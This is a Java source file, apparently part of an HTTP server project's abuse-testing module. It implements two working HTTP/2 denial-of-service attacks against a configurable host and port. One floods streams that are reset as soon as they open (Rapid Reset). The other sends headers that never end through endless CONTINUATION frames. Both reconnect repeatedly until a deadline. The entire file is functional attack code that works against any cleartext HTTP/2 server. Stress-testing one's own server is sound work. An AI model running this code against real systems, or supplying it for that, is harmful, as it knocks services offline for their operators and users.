package dev.firstlight.server.abuse;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.List;

/** What only HTTP/2 allows, spoken frame by frame to the port that takes it without TLS. */
final class SecondVersion {

    private static final int HEADERS = 1;
    private static final int RST_STREAM = 3;
    private static final int SETTINGS = 4;
    private static final int CONTINUATION = 9;
    private static final int END_STREAM = 1;
    private static final int END_HEADERS = 4;

    /** GET, http, / and the authority "x", by the static table. */
    private static final byte[] GET = {(byte) 0x82, (byte) 0x86, (byte) 0x84, 0x41, 1, 'x'};

    private final Target target;

    SecondVersion(Target target) {
        this.target = target;
    }

    /** Streams that are cancelled as soon as they are opened, on connection after connection. */
    Attacks.Outcome rapidResets(long end) {
        long streams = 0;
        long connections = 0;
        while (System.nanoTime() < end) {
            connections++;
            try (Socket socket = open()) {
                OutputStream out = socket.getOutputStream();
                for (int id = 1; System.nanoTime() < end; id += 200) {
                    ByteArrayOutputStream frames = new ByteArrayOutputStream();
                    for (int i = id; i < id + 200; i += 2) {
                        frame(frames, HEADERS, END_STREAM | END_HEADERS, i, GET);
                        frame(frames, RST_STREAM, 0, i, new byte[] {0, 0, 0, 8});
                        streams++;
                    }
                    out.write(frames.toByteArray());
                }
            } catch (IOException closed) {
                // The server has had enough; on with another.
            }
        }
        return new Attacks.Outcome(streams + " streams on " + connections + " connections", List.of());
    }

    /** One request whose headers do not end. */
    Attacks.Outcome endlessHeaders(long end) {
        long frames = 0;
        long connections = 0;
        byte[] name = {0x00, 1, 'a', 100};
        byte[] block = java.util.Arrays.copyOf(name, name.length + 100);
        java.util.Arrays.fill(block, name.length, block.length, (byte) 'b');
        while (System.nanoTime() < end) {
            connections++;
            try (Socket socket = open()) {
                OutputStream out = socket.getOutputStream();
                ByteArrayOutputStream first = new ByteArrayOutputStream();
                frame(first, HEADERS, END_STREAM, 1, GET);
                out.write(first.toByteArray());
                while (System.nanoTime() < end) {
                    ByteArrayOutputStream more = new ByteArrayOutputStream();
                    for (int i = 0; i < 100; i++) {
                        frame(more, CONTINUATION, 0, 1, block);
                        frames++;
                    }
                    out.write(more.toByteArray());
                }
            } catch (IOException closed) {
                // The server has had enough; on with another.
            }
        }
        return new Attacks.Outcome(frames + " frames on " + connections + " connections", List.of());
    }

    private Socket open() throws IOException {
        Socket socket = new Socket(target.host(), target.port());
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        bytes.write("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
        frame(bytes, SETTINGS, 0, 0, new byte[0]);
        socket.getOutputStream().write(bytes.toByteArray());
        return socket;
    }

    private static void frame(ByteArrayOutputStream out, int type, int flags, int stream, byte[] payload) {
        out.write(payload.length >> 16);
        out.write(payload.length >> 8);
        out.write(payload.length);
        out.write(type);
        out.write(flags);
        out.write(stream >> 24);
        out.write(stream >> 16);
        out.write(stream >> 8);
        out.write(stream);
        out.writeBytes(payload);
    }
}
